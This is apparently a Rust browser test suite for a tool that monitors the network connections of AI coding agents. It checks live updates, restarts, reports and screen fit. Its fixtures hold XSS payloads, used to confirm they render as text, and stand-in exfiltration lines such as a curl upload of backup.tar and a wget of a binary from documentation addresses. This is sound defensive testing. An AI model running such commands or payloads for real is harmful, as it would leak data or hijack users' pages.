//! The page in a browser: Chromium and chromedriver, as the distribution has them. Skipped where they are not.

use std::fs;
use std::path::PathBuf;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::{Context as _, Result, ensure};
use rano::internals::event::{Bytes, Class};
use rano::internals::store::Store;
use rano::internals::update::Counters;

use crate::support::browser::Browser;
use crate::support::history::{Connection, End, History, START, every};
use crate::support::web::Site;

crate::tests![
    the_page_works,
    the_page_comes_back_after_a_restart,
    a_report_opens_from_disk,
    it_fits_every_screen,
];

const HOSTILE: &str = "<img src=x onerror=document.title='owned'>";

/// Events that are timed.
const TIMED: u64 = 15;

/// From the push into the store to the row on the screen, in milliseconds: far above what it takes, since others test
/// at the same time.
const LATE: u64 = 3000;

fn now() -> i64 {
    let since = SystemTime::now().duration_since(UNIX_EPOCH).expect("after 1970");
    i64::try_from(since.as_millis()).expect("a long time from now")
}

fn history() -> Result<(History, i64)> {
    let history = History::new()?;
    let claude = Connection { class: Class::LlmApi, ..Connection::default() };
    let evil = Connection {
        comm: HOSTILE.into(),
        cmdline: format!("{HOSTILE} </script><script>document.title='owned'</script>"),
        domain: Some("\"><svg onload=document.title='owned'>.example".into()),
        ip: "198.51.100.9",
        class: Class::Unknown,
        ..claude.clone()
    };
    let refused =
        Connection { fails: true, domain: None, ip: "192.0.2.1", class: Class::Unknown, ..claude.clone() };
    history.write("first", START, &every(40, START, 7 * 60_000, &claude), End::Clean)?;
    let begin = now() - 30 * 60_000;
    let codex = Connection {
        provider: "openai",
        comm: "codex".into(),
        domain: Some("api.openai.com".into()),
        ..claude
    };
    let mut second = every(60, begin, 20_000, &codex);
    second.extend(every(4, begin + 1000, 1000, &evil));
    second.extend(every(5, begin + 2000, 60_000, &refused));
    history.write("second", begin, &second, End::Clean)?;
    Ok((history, begin))
}

fn push(store: &Store, number: u64, domain: &str) {
    let connection = Connection { at: now(), domain: Some(domain.to_owned()), ..Connection::default() };
    for event in connection.events(number) {
        store.push(&event.into());
    }
}

fn url(site: &Site) -> Result<String> {
    Ok(format!("http://{}/#token={}", site.address()?, site.token))
}

fn the_page_works() -> Result<()> {
    let (history, _) = history()?;
    let store = history.begin("third", now() - 5000)?;
    push(&store, 1, "first.example");
    let site = Site::start(history.launch_beside(&["serve", "--attach", "third"])?)?;
    let browser = Browser::start(&history.place)?;
    browser.resize(1280, 800, "light")?;
    browser.open(&url(&site)?)?;
    browser.wait_for("document.querySelector('#rows .row') && S.live === 'live'")?;
    ensure!(
        browser.run("return location.href.includes('token')")? == false,
        "the token stays in the address"
    );
    ensure!(browser.run("return document.cookie + localStorage.length")? == "0");

    // What happens is there at once.
    browser.run(
        "window.seen = {};
         new MutationObserver(() => {
           for (const row of document.querySelectorAll('#rows .k-remote')) {
             const name = row.textContent.split(':')[0];
             if (name.startsWith('live-') && !window.seen[name]) window.seen[name] = Date.now();
           }
         }).observe(document.getElementById('rows'), { childList: true, subtree: true })",
    )?;
    let mut took = Vec::new();
    for number in 0..TIMED {
        let name = format!("live-{number}.example");
        let begun = now();
        push(&store, 10 + number, &name);
        browser.wait_for(&format!("window.seen['{name}']"))?;
        let seen = browser.run(&format!("return window.seen['{name}']"))?.as_i64().context("a time")?;
        took.push(u64::try_from(seen - begun).unwrap_or(0));
    }
    took.sort_unstable();
    let median = took[took.len() / 2];
    ensure!(median < LATE, "{took:?} ms");
    browser.wait_for("[...S.paths.values()].some(path => path.endpoint === 'live-3.example')")?;

    // Another session; everything in it is text.
    browser.run("R.setRun('second')")?;
    browser.wait_for("S.snap.report.session.name === 'second' && S.rows.size === 69")?;
    browser.run("document.querySelector('#rows').scrollTop = 1e6")?;
    browser.wait_for("document.querySelector('#app').innerText.includes('onload=document.title')")?;
    ensure!(browser.run("return document.querySelectorAll('#app img, #app svg [onload]').length")? == 0);
    ensure!(browser.run("return document.title")? == "rano");

    // Details of a hostile one, by keyboard and by pointer.
    browser.run("R.openDrawer([...S.rows.values()].find(row => row.comm.includes('<img')))")?;
    browser.wait_for("document.querySelector('#drawer[open] pre').textContent.includes('</script>')")?;
    ensure!(browser.run("return document.querySelectorAll('#drawer script, #drawer img').length")? == 0);
    browser.key("\u{e00c}")?;
    browser.wait_for("!document.querySelector('#drawer').open")?;
    browser.run("document.querySelector('#rows').focus(); document.querySelector('#rows').scrollTop = 0")?;
    browser.key("j")?;
    browser.key("\u{e007}")?;
    browser.wait_for("document.querySelector('#drawer[open] dl')")?;
    browser.key("\u{e00c}")?;

    // A click in the map filters everything, and so does a finding; Escape takes it back.
    browser.run("document.querySelector('#map .node[aria-label^=\"Program codex\"]').dispatchEvent(new MouseEvent('click'))")?;
    browser.wait_for("S.rows.size === 60 && document.getElementById('filter').value === 'process:codex'")?;
    browser.key("\u{e00c}")?;
    browser.wait_for("S.rows.size === 69")?;
    browser.run("document.querySelector('button.finding').click()")?;
    browser.wait_for("S.filter !== '' && S.rows.size < 69")?;
    browser.run("R.setFilter('')")?;
    browser.wait_for("S.rows.size === 69")?;

    // Zoom, and back.
    browser.drag("#strip svg", 0.2, 0.4)?;
    browser.wait_for("S.since != null && S.rows.size < 40 && S.live === 'zoomed'")?;
    browser.key("w")?;
    browser.wait_for("S.since == null && S.rows.size === 69")?;

    // Two sessions side by side.
    browser.key("s")?;
    browser.wait_for("document.querySelector('#sessions[open] #compare')")?;
    browser.run(
        "const pick = (which, name) => [...document.querySelectorAll('#sessions tbody tr')]
           .find(row => row.textContent.includes(name)).querySelector(`input[name=${which}]`).click();
         pick('old', 'first'); pick('new', 'second');
         document.getElementById('compare').click()",
    )?;
    browser.wait_for("document.querySelector('#diff').innerText.includes('api.openai.com')")?;
    browser.key("\u{e00c}")?;
    let complaints = browser.complaints()?;
    ensure!(complaints.is_empty(), "{complaints:?}");

    // A mistake is told where it is made.
    browser.run("document.getElementById('filter').value = 'domian:x'; document.getElementById('ask').requestSubmit()")?;
    browser.wait_for("document.getElementById('wrong').textContent.includes('domain')")?;
    for (width, height) in [(390, 844), (1280, 800), (800, 600)] {
        browser.resize(width, height, "dark")?;
        ensure!(
            browser.run("return document.documentElement.scrollWidth <= innerWidth")? == true,
            "{width} is too narrow"
        );
    }
    Ok(())
}

fn the_page_comes_back_after_a_restart() -> Result<()> {
    let (history, _) = history()?;
    let store = history.begin("third", now() - 5000)?;
    push(&store, 1, "before.example");
    let launch = |port: u16| {
        let listen = format!("127.0.0.1:{port}");
        let arguments = ["serve", "--attach", "third", "--token-file", "token", "--listen", &listen];
        history.launch_beside(&arguments)
    };
    let site = Site::start(launch(0)?)?;
    let port = site.address()?.port();
    let browser = Browser::start(&history.place)?;
    browser.open(&url(&site)?)?;
    browser.wait_for("document.querySelector('#rows .row') && S.live === 'live'")?;
    site.rano.interrupt()?.expect_code(0)?;
    browser.wait_for("S.live === 'lost'")?;
    push(&store, 2, "meanwhile.example");
    let _again = Site::start(launch(port)?)?;
    browser.wait_for("S.live === 'live'")?;
    browser.wait_for("document.querySelector('#rows').innerText.includes('meanwhile.example')")?;
    push(&store, 3, "after.example");
    browser.wait_for("document.querySelector('#rows').innerText.includes('after.example')")?;
    browser.wait_for("S.sums.connects === 3")?;
    Ok(())
}

fn a_report_opens_from_disk() -> Result<()> {
    let (history, _) = history()?;
    history.run(&["report", "--run-id", "second", "--html", "night.html"])?;
    let browser = Browser::start(&history.place)?;
    browser.open(&format!("file://{}", history.directory().join("night.html").display()))?;
    browser.wait_for("document.querySelector('#rows .row') && document.querySelector('#map svg')")?;
    let text = browser.run("return document.getElementById('app').innerText")?.to_string();
    for part in
        ["69 connections to 2 names", "Unknown", "Top domains", "Completeness", "SHA-256 of the database"]
    {
        ensure!(text.contains(part), "{part} is missing in {text}");
    }
    ensure!(browser.run("return document.title")? == "rano report");
    browser.run("R.searchRows('api.openai.com')")?;
    browser.wait_for("document.getElementById('rows-note').textContent.startsWith('60 ')")?;
    let complaints = browser.complaints()?;
    ensure!(complaints.is_empty(), "{complaints:?}");
    Ok(())
}

/// What agents run these programs with; what is not here they do themselves.
const TOOLS: [(&str, &str); 9] = [
    ("npm", "npm install"),
    ("cargo", "cargo build"),
    ("pip", "pip install requests"),
    ("git", "git push origin main"),
    ("gh", "gh pr view"),
    ("node", "node server.js"),
    ("curl", "curl -sk -T backup.tar https://198.51.100.66/up"),
    ("python3", "python3 scrape.py"),
    ("wget", "wget -q http://[2001:db8:4::17]/a.bin"),
];

/// On whose behalf.
fn call(provider: &str, comm: &str) -> (&'static str, Option<&'static str>) {
    let agent = match provider {
        "openai" => "codex",
        "google" => "gemini",
        _ => "claude",
    };
    (agent, TOOLS.into_iter().find(|(program, _)| *program == comm).map(|(_, line)| line))
}

/// An evening of three agents: command, provider, name, address, port, class, connections, bytes sent and received of
/// each.
type Habit = (&'static str, &'static str, &'static str, &'static str, u16, Class, usize, (u64, u64));

const EVENING: [Habit; 20] = [
    ("claude", "anthropic", "api.anthropic.com", "203.0.113.7", 443, Class::LlmApi, 160, (46_000, 31_000)),
    ("codex", "openai", "api.openai.com", "203.0.113.20", 443, Class::LlmApi, 70, (31_000, 21_000)),
    (
        "gemini",
        "google",
        "generativelanguage.googleapis.com",
        "203.0.113.30",
        443,
        Class::LlmApi,
        24,
        (16_000, 9_000),
    ),
    ("claude", "anthropic", "statsig.anthropic.com", "203.0.113.44", 443, Class::Telemetry, 18, (1_800, 400)),
    ("codex", "openai", "o123.ingest.sentry.io", "203.0.113.45", 443, Class::Telemetry, 12, (2_500, 300)),
    ("npm", "anthropic", "registry.npmjs.org", "192.0.2.34", 443, Class::Registry, 97, (1_300, 2_000_000)),
    ("cargo", "openai", "static.crates.io", "192.0.2.132", 443, Class::Registry, 20, (1_200, 450_000)),
    ("cargo", "openai", "index.crates.io", "192.0.2.133", 443, Class::Registry, 14, (1_200, 60_000)),
    ("pip", "openai", "pypi.org", "192.0.2.223", 443, Class::Registry, 4, (1_400, 64_000)),
    ("pip", "openai", "files.pythonhosted.org", "192.0.2.224", 443, Class::Registry, 4, (1_400, 1_900_000)),
    ("git", "anthropic", "github.com", "192.0.2.4", 443, Class::CodeHost, 11, (320_000, 40_000)),
    ("git", "openai", "github.com", "192.0.2.4", 22, Class::CodeHost, 5, (90_000, 30_000)),
    ("gh", "anthropic", "api.github.com", "192.0.2.6", 443, Class::CodeHost, 9, (3_400, 45_000)),
    ("node", "anthropic", "", "127.0.0.1", 5432, Class::Localhost, 40, (400, 1_800)),
    ("claude", "anthropic", "", "127.0.0.1", 3000, Class::Localhost, 12, (300, 5_000)),
    ("node", "anthropic", "", "10.0.0.40", 6379, Class::Private, 7, (3_000, 9_000)),
    ("claude", "anthropic", "", "10.0.0.53", 53, Class::Dns, 40, (60, 180)),
    ("curl", "anthropic", "", "198.51.100.66", 443, Class::Unknown, 1, (41_900_000, 2_700)),
    ("python3", "google", "drop.example.net", "198.51.100.55", 443, Class::Unknown, 9, (5_200, 84_000)),
    ("wget", "openai", "", "2001:db8:4::17", 80, Class::Unknown, 1, (300, 880_000)),
];

const MINUTE: i64 = 60_000;

fn evening(history: &History) -> Result<()> {
    let begin = now() - 118 * MINUTE;
    let mut all = Vec::new();
    // The same numbers each time, scattered as work is: in bursts.
    let mut state: u32 = 7;
    let mut next = |below: i64| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (i64::from(state >> 8) * below) >> 24
    };
    for (comm, provider, domain, ip, port, class, count, bytes) in EVENING {
        for _ in 0..count {
            let burst = [4, 12, 23, 41, 52, 64, 77, 96, 103][usize::try_from(next(9))?];
            let at = begin + if count == 1 { 103 * MINUTE } else { burst * MINUTE + next(9 * MINUTE) };
            let scale = 40 + u64::try_from(next(120))?;
            all.push(Connection {
                provider,
                comm: comm.to_owned(),
                cmdline: TOOLS
                    .into_iter()
                    .find(|(program, _)| *program == comm)
                    .map_or(comm, |it| it.1)
                    .to_owned(),
                call: Some(call(provider, comm)),
                domain: Some(domain.to_owned()).filter(|name| !name.is_empty()),
                ip,
                at,
                open_for: Duration::from_millis(200 + u64::try_from(next(4000))?),
                class,
                port,
                bytes: if count == 1 { bytes } else { (bytes.0 * scale / 100, bytes.1 * scale / 100) },
                ..Connection::default()
            });
        }
    }
    let mirror = Connection {
        provider: "google",
        comm: "python3".to_owned(),
        domain: Some("old-mirror.example.org".to_owned()),
        ip: "198.51.100.80",
        at: begin + 78 * MINUTE,
        call: Some(call("google", "python3")),
        fails: true,
        ..Connection::default()
    };
    all.extend(every(6, mirror.at, 900, &mirror));
    let open = Connection {
        class: Class::LlmApi,
        stays_open: true,
        call: Some(call("anthropic", "claude")),
        ..Connection::default()
    };
    all.extend(every(5, begin + 112 * MINUTE, 40_000, &open));
    all.sort_by_key(|connection| connection.at);
    let store = history.begin("friday", begin)?;
    for (number, connection) in all.iter().enumerate() {
        for event in connection.events(number as u64) {
            store.push(&event.into());
        }
    }
    let ended = all.iter().filter(|connection| !connection.fails && !connection.stays_open);
    let away = ended.filter(|connection| connection.class != Class::Localhost);
    let away = away.fold(Bytes { sent: 0, received: 0 }, |sum, connection| Bytes {
        sent: sum.sent + connection.bytes.0,
        received: sum.received + connection.bytes.1,
    });
    let counters = Counters { active: 5, peak_active: 9, away, ..Counters::default() };
    let finished = store.finish(counters, begin + 118 * MINUTE);
    ensure!(finished.error.is_none(), "{finished:?}");
    Ok(())
}

/// Nothing is wider than the window, and the pictures are there to be looked at: in the directory for what tests leave,
/// or where `RANO_PICTURES` says. docs/serve.png is `serve-light-1280.png` of these.
fn it_fits_every_screen() -> Result<()> {
    let history = History::new()?;
    evening(&history)?;
    history.run(&["report", "--html", "night.html"])?;
    let site = Site::start(history.launch_beside(&["serve", "--read-only"])?)?;
    let browser = Browser::start(&history.place)?;
    let usual = || PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("pictures");
    let directory = std::env::var_os("RANO_PICTURES").map_or_else(usual, PathBuf::from);
    fs::create_dir_all(&directory)?;
    let report = format!("file://{}", history.directory().join("night.html").display());
    for (name, address) in [("serve", url(&site)?), ("report", report)] {
        for (width, height) in [(1280, 800), (390, 844)] {
            for scheme in ["light", "dark"] {
                browser.resize(width, height, scheme)?;
                browser.open("about:blank")?;
                browser.open(&address)?;
                browser
                    .wait_for("document.querySelector('#rows .row') && document.querySelector('#map svg')")?;
                if name == "serve" {
                    browser.wait_for("S.live === 'live'")?;
                }
                let picture = browser.picture()?;
                fs::write(directory.join(format!("{name}-{scheme}-{width}.png")), picture)?;
                let fits = browser.run("return document.documentElement.scrollWidth <= innerWidth")?;
                ensure!(fits == true, "{name} {scheme} at {width}");
            }
        }
    }
    ensure!(browser.complaints()?.is_empty());
    Ok(())
}
